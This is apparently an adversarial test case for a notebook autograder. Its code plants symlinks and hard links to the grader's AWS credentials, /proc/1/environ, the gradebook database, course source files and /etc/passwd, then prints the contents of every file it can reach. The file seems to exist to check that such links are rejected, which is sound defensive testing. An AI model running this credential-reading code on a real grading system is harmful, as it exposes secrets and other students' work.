"""
what: Hands in links to credentials and to peers' work, and makes more while it runs.
named: "is a link, a pipe or a device"
shown: true
"""
# %% double
import os

for target in ("/home/grader/.aws/credentials", "/proc/1/environ", "/home/grader/course/source"):
    for make in (os.symlink, os.link):
        try:
            make(target, f"made-{make.__name__}-{abs(hash(target))}")
        except OSError as error:
            print(error)
for name in sorted(os.listdir(".")):
    try:
        with open(name, errors="replace") as file:
            print(name, file.read(2000))
    except OSError as error:
        print(error)
# %% [hand in]
import os

for number, target in enumerate(
    (
        "/home/grader/.aws/credentials",
        "/home/grader/course/gradebook.db",
        "../../../source/toy/toy.ipynb",
        "/etc/passwd",
    )
):
    os.symlink(target, folder / f"link-{number}.txt")
os.symlink("/home/grader/.aws", folder / "linked-folder")
os.symlink("../../../source/toy", folder / "source")
